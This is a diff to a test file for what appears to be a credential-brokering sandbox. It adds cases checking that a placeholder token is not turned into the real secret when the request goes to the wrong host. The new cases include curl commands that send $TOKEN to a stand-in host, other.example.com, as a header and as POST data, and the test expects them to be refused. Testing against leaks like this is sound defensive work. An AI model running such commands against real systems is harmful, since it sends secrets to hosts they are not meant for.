@@ -4,6 +4,7 @@ import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
+import { checkCells, wayOut } from '../sandbox/attack-table.ts';
 import { brokerSandbox, gitBackend } from '../support/broker-sandbox.ts';
 
 const value = 'tok_Zq8+/w9R=x71';
@@ -41,6 +42,8 @@ import os, urllib.request
 request = urllib.request.Request("https://api.example.com/python", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
 print(urllib.request.urlopen(request).read().decode())'`,
       '/usr/bin/python3 -m pip download --no-input --disable-pip-version-check -q -i "https://user:$TOKEN@api.example.com/simple" thing 2>&1 | tail -1',
+      'curl -sS -H "Authorization: Bearer $TOKEN" https://other.example.com/other; echo',
+      'curl -sS -o /dev/null -w "%{http_code}\\n" -d "$TOKEN" http://other.example.com/',
       'env | grep -c berth_ph_',
     ].join('\n');
     const { stdout, stderr, env } = await run(script);
@@ -53,12 +56,19 @@ print(urllib.request.urlopen(request).read().decode())'`,
         ['/node', `Bearer ${value}`],
         ['/python', `Bearer ${value}`],
         ['/simple/thing/', basic('user')],
+        // To a host that it is not for, the placeholder is no more than a text.
+        ['/other', `Bearer ${env['TOKEN']}`],
       ],
       all,
     );
-    assert.equal(stdout.split(`told Bearer ${env['TOKEN']}`).length, 4, all);
+    assert.equal(stdout.split(`told Bearer ${env['TOKEN']}`).length, 5, all);
     assert.equal(all.includes(value), false);
-    assert.deepEqual(refusals, []);
+    assert.match(stdout, /^403$/m);
+    assert.deepEqual(
+      refusals.map(({ reason, host }) => [reason, host]),
+      [['placeholder_to_wrong_host', 'other.example.com']],
+    );
+    checkCells(wayOut, `${mode} mode`, { 34: 'blocked' });
   });
 }
 
